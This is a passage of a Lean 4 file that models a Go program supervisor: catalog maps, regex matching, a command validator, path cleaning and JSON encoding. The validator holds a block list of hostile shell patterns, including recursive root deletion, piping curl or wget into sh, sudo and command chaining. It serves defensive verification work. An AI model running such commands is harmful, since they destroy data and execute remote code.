import Mathlib

/-!
# Xmanager: a shallow embedding of the program supervisor

The Go sources under `models/`, `storage/`, `utils/`, `services/` and `handlers/`
are embedded as Lean functions.

* Go `string` is `String`; `len` is the UTF-8 byte size.
* Go `map[string]Program` is an association list; `mapSet`, `mapDelete`,
  `mapGet` are the map primitives.
* Go `error` is `Option String` (`none` is `nil`); `(T, error)` is `Except String T`.
* Everything the program reads from outside (clock, catalog file faults, `/proc`,
  spawning, signals, the command validator) is an oracle of `Env`, indexed by a
  tick counter that every external call advances: a single `Env` therefore
  describes an arbitrary, time-varying behaviour of the operating system.
* The catalog file is the `file` component of `World`.
-/

namespace Xmanager

/-! ## Go `strings` helpers -/

/-- Go `unicode.IsSpace`. -/
def isSpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c.toNat = 0x0B || c.toNat = 0x0C ||
  c.toNat = 0x85 || c.toNat = 0xA0 || c.toNat = 0x1680 ||
  (0x2000 ≤ c.toNat && c.toNat ≤ 0x200A) ||
  c.toNat = 0x2028 || c.toNat = 0x2029 || c.toNat = 0x202F || c.toNat = 0x205F ||
  c.toNat = 0x3000

/-- The complement of `isSpace`. -/
def notSpace (c : Char) : Bool := !isSpace c

/-- The scanning loop of Go `strings.Fields`: `cur` is the current token, reversed. -/
def fieldsAux : List Char → List Char → List (List Char)
  | [], cur => if cur.isEmpty then [] else [cur.reverse]
  | c :: cs, cur =>
    if isSpace c then
      if cur.isEmpty then fieldsAux cs [] else cur.reverse :: fieldsAux cs []
    else fieldsAux cs (c :: cur)

/-- Go `strings.Fields` on a list of characters: the maximal runs of non-space characters. -/
def fieldsChars (s : List Char) : List (List Char) := fieldsAux s []

/-- Go `strings.Fields`. -/
def Fields (s : String) : List String := (fieldsChars s.data).map String.mk

/-- Go `strings.TrimSpace` on a list of characters. -/
def trimSpaceChars (s : List Char) : List Char :=
  ((s.dropWhile isSpace).reverse.dropWhile isSpace).reverse

/-- Go `strings.TrimSpace`. -/
def TrimSpace (s : String) : String := String.mk (trimSpaceChars s.data)

/-- Does `sub` occur in `s` as a contiguous block (on character lists)? -/
def containsChars : List Char → List Char → Bool
  | [], sub => sub.isEmpty
  | c :: cs, sub => sub.isPrefixOf (c :: cs) || containsChars cs sub

/-- Go `strings.Contains`. -/
def Contains (s sub : String) : Bool := containsChars s.data sub.data

/-- Go `strings.Split(s, "\n")` on a list of characters. -/
def splitNewline : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = '\n' then [] :: splitNewline cs
    else
      match splitNewline cs with
      | [] => [[c]]
      | l :: ls => (c :: l) :: ls

/-- Go `strings.ReplaceAll(s, "\x00", " ")`: every NUL becomes a space. -/
def replaceNul (s : String) : String :=
  String.mk (s.data.map fun c => if c = Char.ofNat 0 then ' ' else c)

/-- The first argv entry of a `/proc/<pid>/cmdline` image: what precedes the first NUL. -/
def firstArgv (data : String) : String :=
  String.mk (data.data.takeWhile fun c => c != Char.ofNat 0)

/-- Verify as the specification words it: true iff the first argv token of the command
line read from the OS equals the first token of `command`. `data` is the content of
`/proc/<pid>/cmdline` when it could be read. -/
def Verify_spec (data : Option String) (command : String) : Bool :=
  match data, Fields command with
  | some d, first :: _ => firstArgv d == first
  | _, _ => false

/-! ## models/program.go -/

/-- Go `time.Time`, as a number of clock units; `0` is the zero time. -/
abbrev Time := Nat

/-- Program represents a managed program. -/
structure Program where
  ID : String
  Name : String
  Command : String
  WorkingDir : String
  Description : String
  Status : String
  PID : Int
  Port : Int
  CreatedAt : Time
  UpdatedAt : Time
  AutoStart : Bool
  RestartPolicy : String
deriving DecidableEq, Repr

/-- Go map read `m[k]` with the comma-ok form. -/
def mapGet (m : List (String × Program)) (k : String) : Option Program :=
  match m with
  | [] => none
  | (k1, v) :: rest => if k1 = k then some v else mapGet rest k

/-- Go map write `m[k] = v`. -/
def mapSet (m : List (String × Program)) (k : String) (v : Program) : List (String × Program) :=
  match m with
  | [] => [(k, v)]
  | (k1, v1) :: rest => if k1 = k then (k, v) :: rest else (k1, v1) :: mapSet rest k v

/-- Go `delete(m, k)`. -/
def mapDelete (m : List (String × Program)) (k : String) : List (String × Program) :=
  m.filter fun e => e.1 ≠ k

/-- The order in which Go's `range` visits the keys of a map is unspecified: `hint` is
the order chosen by the runtime. Whatever `hint` is, every key is visited once. -/
def rangeKeys (hint : List String) (m : List (String × Program)) : List String :=
  (hint.filter fun k => (m.map Prod.fst).contains k).dedup ++
    (m.map Prod.fst).filter fun k => !hint.contains k

/-- ProgramManager manages a collection of programs. -/
structure ProgramManager where
  Programs : List (String × Program)
  Version : String
deriving DecidableEq, Repr

/-- NewProgramManager creates a new ProgramManager instance. -/
def NewProgramManager : ProgramManager := { Programs := [], Version := "1.0" }

namespace ProgramManager

/-- The model method AddProgram; `t1`, `t2` are its two readings of the clock. -/
def AddProgram (pm : ProgramManager) (program : Program) (t1 t2 : Time) : ProgramManager :=
  let program := { program with CreatedAt := t1 }
  let program := { program with UpdatedAt := t2 }
  { pm with Programs := mapSet pm.Programs program.ID program }

/-- The model method GetProgramByID. -/
def GetProgramByID (pm : ProgramManager) (id : String) : Option Program :=
  mapGet pm.Programs id

/-- The model method UpdateProgram; `t` is its reading of the clock. -/
def UpdateProgram (pm : ProgramManager) (id : String) (program : Program) (t : Time) :
    ProgramManager × Bool :=
  match mapGet pm.Programs id with
  | none => (pm, false)
  | some _ =>
    let program := { program with UpdatedAt := t }
    ({ pm with Programs := mapSet pm.Programs id program }, true)

/-- The model method RemoveProgram. -/
def RemoveProgram (pm : ProgramManager) (id : String) : ProgramManager × Bool :=
  match mapGet pm.Programs id with
  | none => (pm, false)
  | some _ => ({ pm with Programs := mapDelete pm.Programs id }, true)

/-- The model method GetAllPrograms; `hint` is the iteration order of the map. -/
def GetAllPrograms (pm : ProgramManager) (hint : List String) : List Program :=
  (rangeKeys hint pm.Programs).filterMap fun k => mapGet pm.Programs k

end ProgramManager

/-! ## Go `regexp`, for the patterns of utils/command_validator.go -/

/-- The part of the Go regular-expression syntax that the forbidden patterns use. -/
inductive Re where
  /-- Matches no string. -/
  | never
  /-- Matches the empty string. -/
  | eps
  /-- A literal character. -/
  | lit (c : Char)
  /-- The class `\s`: tab, newline, form feed, carriage return, space. -/
  | space
  /-- The dot: any character except newline. -/
  | dot
  /-- Concatenation. -/
  | cat (r1 r2 : Re)
  /-- Alternation (arises when matching a concatenation). -/
  | alt (r1 r2 : Re)
  /-- Repetition, zero or more times. -/
  | star (r : Re)
deriving DecidableEq, Repr

namespace Re

/-- Go `\s`, which is `[\t\n\f\r ]`. -/
def isReSpace (c : Char) : Bool :=
  c = '\t' || c = '\n' || c.toNat = 0x0C || c = '\r' || c = ' '

/-- Does the expression match the empty string? -/
def nullable : Re → Bool
  | never => false
  | eps => true
  | lit _ => false
  | space => false
  | dot => false
  | cat r1 r2 => nullable r1 && nullable r2
  | alt r1 r2 => nullable r1 || nullable r2
  | star _ => true

/-- The expression matching what may follow the character `c` in a match of `r`. -/
def after : Re → Char → Re
  | never, _ => never
  | eps, _ => never
  | lit a, c => if a = c then eps else never
  | space, c => if isReSpace c then eps else never
  | dot, c => if c = '\n' then never else eps
  | cat r1 r2, c =>
    if nullable r1 then alt (cat (after r1 c) r2) (after r2 c) else cat (after r1 c) r2
  | alt r1 r2, c => alt (after r1 c) (after r2 c)
  | star r, c => cat (after r c) (star r)

/-- Does `r` match some prefix of `s`? -/
def matchesPrefix : Re → List Char → Bool
  | r, [] => nullable r
  | r, c :: cs => nullable r || matchesPrefix (after r c) cs

/-- Go `regexp.MatchString` on a compiled pattern: does `r` match somewhere in `s`? -/
def search (r : Re) : List Char → Bool
  | [] => nullable r
  | c :: cs => matchesPrefix r (c :: cs) || search r cs

/-- Read one atom of a pattern: an escape (`\s` is the space class, any other escaped
character stands for itself), a dot, or a literal character. -/
def readAtom : List Char → Option (Re × List Char)
  | [] => Option.none
  | '\\' :: c :: rest => some (if c = 's' then space else lit c, rest)
  | '.' :: rest => some (dot, rest)
  | c :: rest => some (lit c, rest)

/-- Compile a pattern made of atoms, each possibly followed by `*` or `+`; `fuel` bounds
the number of atoms. -/
def compileAux : Nat → List Char → Re
  | 0, _ => eps
  | fuel + 1, cs =>
    match readAtom cs with
    | Option.none => eps
    | some (a, '*' :: rest) => cat (star a) (compileAux fuel rest)
    | some (a, '+' :: rest) => cat (cat a (star a)) (compileAux fuel rest)
    | some (a, rest) => cat a (compileAux fuel rest)

/-- Go `regexp.MustCompile` on the syntax above. -/
def compile (pattern : String) : Re := compileAux pattern.length pattern.data

/-- The expression matching exactly the given characters, one after the other. -/
def word : List Char → Re
  | [] => eps
  | c :: cs => cat (lit c) (word cs)

end Re

/-- Go `regexp.MatchString(pattern, s)`. -/
def MatchString (pattern s : String) : Bool := Re.search (Re.compile pattern) s.data

/-! ## utils/command_validator.go -/

/-- What the validator asks the filesystem. -/
structure ExecFS where
  /-- Does `os.Stat(path)` succeed? -/
  statOk : String → Bool
  /-- Does `exec.LookPath(name)` find the executable on PATH? -/
  lookPath : String → Bool

/-- The list `forbiddenPatterns` of ValidateCommand, in source order. -/
def forbiddenPatterns : List String :=
  ["rm\\s+-rf\\s+/", "sudo\\s+", "chmod\\s+.*777", "curl.*\\|.*sh", "wget.*\\|.*sh",
   "eval\\s+", "exec\\s+", "system\\s*\\(", "\\$\\(", ";", "\\|\\|", "&&",
   ">\\s*/dev/", "<\\s*/dev/"]

/-- Unix `filepath.IsAbs`. -/
def IsAbs (path : String) : Bool := "/".data.isPrefixOf path.data

namespace CommandValidator

/-- The method validateExecutable (the branch for a non-Windows GOOS). -/
def validateExecutable (fs : ExecFS) (command : String) : Option String :=
  match Fields command with
  | [] => some "empty command"
  | executable :: _ =>
    if Contains executable "/" = true ∧ IsAbs executable = false then none
    else if IsAbs executable = true then
      if fs.statOk executable = true then none
      else some ("executable not found: " ++ executable)
    else if fs.lookPath executable = true then none
    else some ("executable not found in PATH: " ++ executable)

/-- ValidateCommand validates a program command for security. -/
def ValidateCommand (fs : ExecFS) (command : String) : Option String :=
  if command = "" then some "command cannot be empty"
  else
    let command := TrimSpace command
    if command.utf8ByteSize > 1000 then some "command too long (max 1000 characters)"
    else
      match forbiddenPatterns.find? fun pattern => MatchString pattern command with
      | some pattern => some ("command contains forbidden pattern: " ++ pattern)
      | none =>
        match validateExecutable fs command with
        | some e => some ("invalid executable: " ++ e)
        | none => none

end CommandValidator

/-! ## Go `filepath.Clean`, for ValidateWorkingDir -/

/-- Split a path at every slash. -/
def splitSlash : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = '/' then [] :: splitSlash cs
    else
      match splitSlash cs with
      | [] => [[c]]
      | h :: t => (c :: h) :: t

/-- One turn of the loop of `filepath.Clean`, on the next path element; `out` holds the
elements written so far, the last one first. An empty element and `.` are skipped; `..`
removes the last element when that is a real one, is written when the path is not rooted,
and is dropped at the root. -/
def cleanStep (rooted : Bool) (out : List (List Char)) (elem : List Char) :
    List (List Char) :=
  if elem = [] ∨ elem = ['.'] then out
  else if elem = ['.', '.'] then
    match out with
    | top :: rest =>
      if top ≠ ['.', '.'] then rest
      else if rooted then out else elem :: out
    | [] => if rooted then out else [elem]
  else elem :: out

/-- Join path elements with slashes. -/
def joinSlash : List (List Char) → List Char
  | [] => []
  | [e] => e
  | e :: rest => e ++ '/' :: joinSlash rest

/-- Go `filepath.Clean` on Unix. -/
def Clean (path : String) : String :=
  if path = "" then "."
  else
    let rooted := IsAbs path
    let out := (splitSlash path.data).foldl (cleanStep rooted) []
    let body := joinSlash out.reverse
    if rooted then String.mk ('/' :: body)
    else if body = [] then "." else String.mk body

/-- What `os.Stat` reports. -/
inductive StatResult where
  | dir
  | file
  | notExist (err : String)
  | failure (err : String)
deriving DecidableEq, Repr

/-- What ValidateWorkingDir asks the filesystem: the answer of the n-th call of `os.Stat`
and the error of `os.MkdirAll`, if any. -/
structure DirFS where
  stat : Nat → String → StatResult
  mkdirAll : String → Option String

namespace CommandValidator

/-- The first `os.Stat` of ValidateWorkingDir and the attempt to create a missing
directory. -/
def ensureWorkingDir (fs : DirFS) (workingDir : String) : Option String :=
  match fs.stat 0 workingDir with
  | .notExist _ =>
    match fs.mkdirAll workingDir with
    | some e => some ("failed to create working directory: " ++ e)
    | none => none
  | .failure e => some ("cannot access working directory: " ++ e)
  | _ => none

/-- ValidateWorkingDir validates the working directory. -/
def ValidateWorkingDir (fs : DirFS) (workingDir : String) : Option String :=
  if workingDir = "" then none
  else
    let workingDir := Clean workingDir
    if workingDir.utf8ByteSize > 500 then some "working directory path too long"
    else if IsAbs workingDir = false then some "working directory must be absolute path"
    else
      match ensureWorkingDir fs workingDir with
      | some e => some e
      | none =>
        match fs.stat 1 workingDir with
        | .notExist e => some ("working directory error: " ++ e)
        | .failure e => some ("working directory error: " ++ e)
        | .file => some "working directory path is not a directory"
        | .dir => none

end CommandValidator

/-! ## Go `encoding/json`, at the level of JSON values

The text of a JSON document is not modelled: a document is the value it stands for, with
the members of an object in the order of the text, duplicates included. -/

/-- A JSON value. A number written with a fraction or an exponent keeps its text. -/
inductive Json where
  | null
  | bool (b : Bool)
  | int (n : Int)
  | frac (raw : String)
  | str (s : String)
  | arr (items : List Json)
  | obj (fields : List (String × Json))

/-- The name that the errors of `encoding/json` give to the kind of a value. -/
def Json.kind : Json → String
  | .null => "null"
  | .bool _ => "bool"
  | .int _ => "number"
  | .frac _ => "number"
  | .str _ => "string"
  | .arr _ => "array"
  | .obj _ => "object"

/-- Is the value `null`? -/
def Json.isNull : Json → Bool
  | .null => true
  | _ => false

/-- Is the value an object? -/
def Json.isObject : Json → Bool
  | .obj _ => true
  | _ => false

/-- The methods MarshalJSON and UnmarshalJSON of Go `time.Time`, on instants: `format`
fails for a year outside of the range [0,9999], `parse` fails for a string that is not an
RFC 3339 time. -/
structure TimeCodec where
  format : Time → Option String
  parse : String → Option Time

/-- Parsing what was formatted gives back the instant. -/
def TimeCodec.Lawful (codec : TimeCodec) : Prop :=
  ∀ t s, codec.format t = some s → codec.parse s = some t

/-- The Go struct ProgramManager, whose map may be nil. -/
structure RawProgramManager where
  Programs : Option (List (String × Program))
  Version : String
deriving DecidableEq, Repr

/-- A catalog as a Go struct value. -/
def ProgramManager.toRaw (pm : ProgramManager) : RawProgramManager :=
  { Programs := some pm.Programs, Version := pm.Version }

/-- The zero value of Program. -/
def Program.zero : Program :=
  { ID := "", Name := "", Command := "", WorkingDir := "", Description := "", Status := "",
    PID := 0, Port := 0, CreatedAt := 0, UpdatedAt := 0, AutoStart := false,
    RestartPolicy := "" }

/-- A member with the tag `omitempty`: left out when the field holds its zero value. -/
def omitempty (empty : Bool) (key : String) (v : Json) : List (String × Json) :=
  if empty then [] else [(key, v)]

/-- The members that `json.Marshal` writes for a Program, by the tags of the struct;
`created` and `updated` are the two formatted times. -/
def programMembers (p : Program) (created updated : String) : List (String × Json) :=
  [("id", .str p.ID), ("name", .str p.Name), ("command", .str p.Command)] ++
    omitempty (p.WorkingDir = "") "working_dir" (.str p.WorkingDir) ++
    omitempty (p.Description = "") "description" (.str p.Description) ++
    [("status", .str p.Status), ("pid", .int p.PID)] ++
    omitempty (p.Port = 0) "port" (.int p.Port) ++
    [("created_at", .str created), ("updated_at", .str updated)] ++
    omitempty (p.AutoStart = false) "auto_start" (.bool p.AutoStart) ++
    omitempty (p.RestartPolicy = "") "restart_policy" (.str p.RestartPolicy)

/-- Go `json.Marshal` of a Program whose strings are valid UTF-8, the only ones that a
Lean `String` holds: such strings are written as they are. The general case, in which
invalid bytes are replaced, is `encodeGoProgram`. -/
def encodeProgram (codec : TimeCodec) (p : Program) : Except String Json :=
  match codec.format p.CreatedAt, codec.format p.UpdatedAt with
  | some created, some updated => .ok (.obj (programMembers p created updated))
  | _, _ => .error ("json: error calling MarshalJSON for type time.Time: " ++
      "Time.MarshalJSON: year outside of range [0,9999]")

/-- Byte order on strings, by which `encoding/json` sorts the keys of a map. -/
def leChars : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a.toNat < b.toNat || (a = b && leChars as bs)

/-- The keys of a map, sorted. -/
def sortedKeys (m : List (String × Program)) : List String :=
  (m.map Prod.fst).dedup.insertionSort fun a b => leChars a.data b.data = true

/-- Go `json.Marshal` of the entries of a map under the given keys. -/
def encodePrograms (codec : TimeCodec) (m : List (String × Program)) :
    List String → Except String (List (String × Json))
  | [] => .ok []
  | k :: ks =>
    match mapGet m k with
    | none => encodePrograms codec m ks
    | some p =>
      match encodeProgram codec p with
      | .error e => .error e
      | .ok v =>
        match encodePrograms codec m ks with
        | .error e => .error e
        | .ok rest => .ok ((k, v) :: rest)

/-- Go `json.Marshal` of a ProgramManager: a nil map is written as `null`. -/
def encodeManager (codec : TimeCodec) (pm : RawProgramManager) : Except String Json :=
  match pm.Programs with
  | none => .ok (.obj [("programs", .null), ("version", .str pm.Version)])
  | some m =>
    match encodePrograms codec m (sortedKeys m) with
    | .error e => .error e
    | .ok members => .ok (.obj [("programs", .obj members), ("version", .str pm.Version)])

/-! ## Go strings as bytes, and what `json.Marshal` writes for them

A Go string is a sequence of bytes. `json.Marshal` coerces every string it writes, the keys
of a map included, to valid UTF-8: each byte that does not start a well-formed encoding is
replaced by U+FFFD. A Lean `String` holds exactly the valid strings; the records below hold
arbitrary bytes. Each byte is a natural number below 256. -/

/-- A Go string: a sequence of bytes, valid UTF-8 or not. -/
abbrev GoString := List Nat

/-- Does the byte lie within the given bounds? -/
def between (lo hi b : Nat) : Bool := decide (lo ≤ b ∧ b ≤ hi)

/-- Go `utf8.DecodeRune` at the head of the bytes: the code point and the number of bytes
of its encoding, or `none` where Go returns (RuneError, 1): the head does not start a
well-formed encoding (a stray continuation byte, a truncated or overlong sequence, a
surrogate, a value above U+10FFFF). -/
def decodeRune : List Nat → Option (Nat × Nat)
  | [] => none
  | b0 :: rest =>
    if b0 < 0x80 then some (b0, 1)
    else if between 0xC2 0xDF b0 then
      match rest with
      | b1 :: _ =>
        if between 0x80 0xBF b1 then some ((b0 - 0xC0) * 64 + (b1 - 0x80), 2) else none
      | _ => none
    else if between 0xE0 0xEF b0 then
      match rest with
      | b1 :: b2 :: _ =>
        if between (if b0 = 0xE0 then 0xA0 else 0x80) (if b0 = 0xED then 0x9F else 0xBF) b1 &&
            between 0x80 0xBF b2 then
          some ((b0 - 0xE0) * 4096 + (b1 - 0x80) * 64 + (b2 - 0x80), 3)
        else none
      | _ => none
    else if between 0xF0 0xF4 b0 then
      match rest with
      | b1 :: b2 :: b3 :: _ =>
        if between (if b0 = 0xF0 then 0x90 else 0x80) (if b0 = 0xF4 then 0x8F else 0xBF) b1 &&
            between 0x80 0xBF b2 && between 0x80 0xBF b3 then
          some ((b0 - 0xF0) * 262144 + (b1 - 0x80) * 4096 + (b2 - 0x80) * 64 + (b3 - 0x80), 4)
        else none
      | _ => none
    else none

/-- The loop of `appendString` of `encoding/json`: bytes that do not start a well-formed
encoding are each replaced by U+FFFD; the first argument bounds the number of steps. -/
def toValidUTF8Aux : Nat → List Nat → List Char
  | 0, _ => []
  | fuel + 1, s =>
    if s = [] then []
    else
      match decodeRune s with
      | some (r, size) => Char.ofNat r :: toValidUTF8Aux fuel (s.drop size)
      | none => Char.ofNat 0xFFFD :: toValidUTF8Aux fuel (s.drop 1)

/-- The JSON string that `json.Marshal` writes for a Go string: the string coerced to
valid UTF-8. -/
def toValidUTF8 (s : GoString) : String := String.mk (toValidUTF8Aux s.length s)

/-- The Go struct Program with its strings as bytes. -/
structure GoProgram where
  ID : GoString
  Name : GoString
  Command : GoString
  WorkingDir : GoString
  Description : GoString
  Status : GoString
  PID : Int
  Port : Int
  CreatedAt : Time
  UpdatedAt : Time
  AutoStart : Bool
  RestartPolicy : GoString
deriving DecidableEq, Repr

/-- The Go struct ProgramManager with its strings as bytes; the map may be nil. -/
structure GoProgramManager where
  Programs : Option (List (GoString × GoProgram))
  Version : GoString
deriving DecidableEq, Repr

/-- Go map read `m[k]` with the comma-ok form, for keys that are byte strings. -/
def goMapGet (m : List (GoString × GoProgram)) (k : GoString) : Option GoProgram :=
  match m with
  | [] => none
  | (k1, v) :: rest => if k1 = k then some v else goMapGet rest k

/-- The members that `json.Marshal` writes for a Program whose strings are bytes: the tag
`omitempty` tests the length of the Go string, and each string is written coerced to valid
UTF-8. -/
def goProgramMembers (g : GoProgram) (created updated : String) : List (String × Json) :=
  [("id", .str (toValidUTF8 g.ID)), ("name", .str (toValidUTF8 g.Name)),
    ("command", .str (toValidUTF8 g.Command))] ++
    omitempty (g.WorkingDir = []) "working_dir" (.str (toValidUTF8 g.WorkingDir)) ++
    omitempty (g.Description = []) "description" (.str (toValidUTF8 g.Description)) ++
    [("status", .str (toValidUTF8 g.Status)), ("pid", .int g.PID)] ++
    omitempty (g.Port = 0) "port" (.int g.Port) ++
    [("created_at", .str created), ("updated_at", .str updated)] ++
    omitempty (g.AutoStart = false) "auto_start" (.bool g.AutoStart) ++
    omitempty (g.RestartPolicy = []) "restart_policy" (.str (toValidUTF8 g.RestartPolicy))

/-- Go `json.Marshal` of a Program whose strings are bytes. -/
def encodeGoProgram (codec : TimeCodec) (g : GoProgram) : Except String Json :=
  match codec.format g.CreatedAt, codec.format g.UpdatedAt with
  | some created, some updated => .ok (.obj (goProgramMembers g created updated))
  | _, _ => .error ("json: error calling MarshalJSON for type time.Time: " ++
      "Time.MarshalJSON: year outside of range [0,9999]")

/-- Byte order on Go strings, by which `encoding/json` sorts the keys of a map. -/
def leBytes : List Nat → List Nat → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a < b || (a = b && leBytes as bs)

/-- The keys of a map, sorted as the Go strings they are. -/
def sortedGoKeys (m : List (GoString × GoProgram)) : List GoString :=
  (m.map Prod.fst).dedup.insertionSort fun a b => leBytes a b = true

/-- Go `json.Marshal` of the entries of a map under the given keys: each key is written
coerced to valid UTF-8. -/
def encodeGoPrograms (codec : TimeCodec) (m : List (GoString × GoProgram)) :
    List GoString → Except String (List (String × Json))
  | [] => .ok []
  | k :: ks =>
    match goMapGet m k with
    | none => encodeGoPrograms codec m ks
    | some g =>
      match encodeGoProgram codec g with
      | .error e => .error e
      | .ok v =>
        match encodeGoPrograms codec m ks with
        | .error e => .error e
        | .ok rest => .ok ((toValidUTF8 k, v) :: rest)

/-- Go `json.Marshal` of a ProgramManager whose strings are bytes: a nil map is written as
`null`, the keys are sorted before they are coerced. -/
def encodeGoManager (codec : TimeCodec) (pm : GoProgramManager) : Except String Json :=
  match pm.Programs with
  | none => .ok (.obj [("programs", .null), ("version", .str (toValidUTF8 pm.Version))])
  | some m =>
    match encodeGoPrograms codec m (sortedGoKeys m) with
    | .error e => .error e
    | .ok members =>
      .ok (.obj [("programs", .obj members), ("version", .str (toValidUTF8 pm.Version))])

/-- Does the number fit a Go `int` (64 bits)? -/
def int64 (n : Int) : Bool := decide (-9223372036854775808 ≤ n ∧ n ≤ 9223372036854775807)

/-- The text of an UnmarshalTypeError. -/
def typeError (v : Json) (field ty : String) : String :=
  "json: cannot unmarshal " ++ v.kind ++ " into Go struct field " ++ field ++ " of type " ++ ty

/-- Go `json.Unmarshal` into a field of type string: `null` leaves the field as it is. -/
def decodeString (field : String) (v : Json) (cur : String) : Except String String :=
  match v with
  | .null => .ok cur
  | .str s => .ok s
  | v => .error (typeError v field "string")

/-- Go `json.Unmarshal` into a field of type int: only an integer literal in range. -/
def decodeInt (field : String) (v : Json) (cur : Int) : Except String Int :=
  match v with
  | .null => .ok cur
  | .int n => if int64 n then .ok n else .error (typeError v field "int")
  | v => .error (typeError v field "int")

/-- Go `json.Unmarshal` into a field of type bool. -/
def decodeBool (field : String) (v : Json) (cur : Bool) : Except String Bool :=
  match v with
  | .null => .ok cur
  | .bool b => .ok b
  | v => .error (typeError v field "bool")

/-- Go `json.Unmarshal` into a field of type time.Time, through its UnmarshalJSON. -/
def decodeTime (codec : TimeCodec) (v : Json) (cur : Time) : Except String Time :=
  match v with
  | .null => .ok cur
  | .str s =>
    match codec.parse s with
    | some t => .ok t
    | none => .error ("parsing time \"" ++ s ++ "\": cannot parse as RFC 3339")
  | _ => .error "Time.UnmarshalJSON: input is not a JSON string"

/-- Case folding of the decoder on one character, as far as it can reach an ASCII name:
ASCII letters to upper case, the Kelvin sign to K, the long s to S. -/
def foldChar (c : Char) : Char :=
  if 'a'.toNat ≤ c.toNat ∧ c.toNat ≤ 'z'.toNat then Char.ofNat (c.toNat - 32)
  else if c.toNat = 0x212A then 'K'
  else if c.toNat = 0x17F then 'S'
  else c

/-- Does the key of a member select the field with this JSON name? The decoder takes an
exact match, else a match under case folding; the names of one struct here do not fold
onto each other, so that is a match under case folding. -/
def sameField (key name : String) : Bool :=
  key.data.map foldChar = name.data.map foldChar

/-- One member of a JSON object decoded into a Program: a key that selects no field is
skipped. -/
def decodeProgramField (codec : TimeCodec) (p : Program) (key : String) (v : Json) :
    Except String Program :=
  if sameField key "id" then
    (decodeString "Program.id" v p.ID).map fun x => { p with ID := x }
  else if sameField key "name" then
    (decodeString "Program.name" v p.Name).map fun x => { p with Name := x }
  else if sameField key "command" then
    (decodeString "Program.command" v p.Command).map fun x => { p with Command := x }
  else if sameField key "working_dir" then
    (decodeString "Program.working_dir" v p.WorkingDir).map fun x =>
      { p with WorkingDir := x }
  else if sameField key "description" then
    (decodeString "Program.description" v p.Description).map fun x =>
      { p with Description := x }
  else if sameField key "status" then
    (decodeString "Program.status" v p.Status).map fun x => { p with Status := x }
  else if sameField key "pid" then
    (decodeInt "Program.pid" v p.PID).map fun x => { p with PID := x }
  else if sameField key "port" then
    (decodeInt "Program.port" v p.Port).map fun x => { p with Port := x }
  else if sameField key "created_at" then
    (decodeTime codec v p.CreatedAt).map fun x => { p with CreatedAt := x }
  else if sameField key "updated_at" then
    (decodeTime codec v p.UpdatedAt).map fun x => { p with UpdatedAt := x }
  else if sameField key "auto_start" then
    (decodeBool "Program.auto_start" v p.AutoStart).map fun x => { p with AutoStart := x }
  else if sameField key "restart_policy" then
    (decodeString "Program.restart_policy" v p.RestartPolicy).map fun x =>
      { p with RestartPolicy := x }
  else .ok p

/-- The members of a JSON object decoded into a Program, in the order of the text. -/
def decodeProgramFields (codec : TimeCodec) :
    List (String × Json) → Program → Except String Program
  | [], p => .ok p
  | (key, v) :: rest, p =>
    match decodeProgramField codec p key v with
    | .error e => .error e
    | .ok p1 => decodeProgramFields codec rest p1

/-- Go `json.Unmarshal` into a Program. -/
def decodeProgram (codec : TimeCodec) (v : Json) (cur : Program) : Except String Program :=
  match v with
  | .null => .ok cur
  | .obj fields => decodeProgramFields codec fields cur
  | v => .error (typeError v "ProgramManager.programs" "models.Program")

/-- The members of a JSON object decoded into a map of Programs: each value is decoded
into a zero Program and stored under its key, a later member replacing an earlier one. -/
def decodeMapFields (codec : TimeCodec) :
    List (String × Json) → List (String × Program) → Except String (List (String × Program))
  | [], m => .ok m
  | (key, v) :: rest, m =>
    match decodeProgram codec v Program.zero with
    | .error e => .error e
    | .ok p => decodeMapFields codec rest (mapSet m key p)

/-- Go `json.Unmarshal` into the field Programs: `null` sets the map to nil, an object is
decoded into the map, which is made first when it is nil. -/
def decodePrograms (codec : TimeCodec) (v : Json) (cur : Option (List (String × Program))) :
    Except String (Option (List (String × Program))) :=
  match v with
  | .null => .ok none
  | .obj fields => (decodeMapFields codec fields (cur.getD [])).map some
  | v => .error (typeError v "ProgramManager.programs" "map[string]models.Program")

/-- The members of a JSON object decoded into a ProgramManager. -/
def decodeManagerFields (codec : TimeCodec) :
    List (String × Json) → RawProgramManager → Except String RawProgramManager
  | [], pm => .ok pm
  | (key, v) :: rest, pm =>
    if sameField key "programs" then
      match decodePrograms codec v pm.Programs with
      | .error e => .error e
      | .ok m => decodeManagerFields codec rest { pm with Programs := m }
    else if sameField key "version" then
      match decodeString "ProgramManager.version" v pm.Version with
      | .error e => .error e
      | .ok s => decodeManagerFields codec rest { pm with Version := s }
    else decodeManagerFields codec rest pm

/-- Go `json.Unmarshal` of a value into a zero ProgramManager: `null` has no effect. -/
def decodeManager (codec : TimeCodec) (v : Json) : Except String RawProgramManager :=
  match v with
  | .null => .ok { Programs := none, Version := "" }
  | .obj fields => decodeManagerFields codec fields { Programs := none, Version := "" }
  | v => .error ("json: cannot unmarshal " ++ v.kind ++
      " into Go value of type models.ProgramManager")

/-- The bytes of a file: the text of a JSON value, or bytes that are not well-formed
JSON. -/
inductive Content where
  | json (v : Json)
  | other (raw : String)

/-- Go `json.Unmarshal(data, &pm)` with `pm` a zero ProgramManager; the text of the
syntax error depends on the bytes and is not modelled. -/
def Unmarshal (codec : TimeCodec) (data : Content) : Except String RawProgramManager :=
  match data with
  | .other _ => .error "invalid character in JSON text"
  | .json v => decodeManager codec v

/-! ## storage/file_storage.go over an explicit filesystem -/

/-- The regular files of a filesystem: what each path holds. Directories are not
tracked. -/
structure Disk where
  file : String → Option Content

/-- The filesystem with `path` holding `c`, or nothing when `c` is `none`. -/
def Disk.set (d : Disk) (path : String) (c : Option Content) : Disk :=
  { file := fun p => if p = path then c else d.file p }

/-- A failed `os.WriteFile`: its error, and what it leaves at the path given what was
there (nothing new, an empty file, a part of the data). -/
structure WriteFault where
  err : String
  leaves : Option Content → Option Content

/-- The failures of the system calls, by path: `none` means that the call succeeds. -/
structure Faults where
  mkdirAll : String → Option String
  writeFile : String → Option WriteFault
  rename : String → String → Option String
  remove : String → Option String
  readFile : String → Option String

/-- Go `filepath.Dir` on Unix: the cleaned path up to the last slash. -/
def Dir (path : String) : String :=
  Clean (String.mk (path.data.reverse.dropWhile fun c => c ≠ '/').reverse)

namespace OnDisk

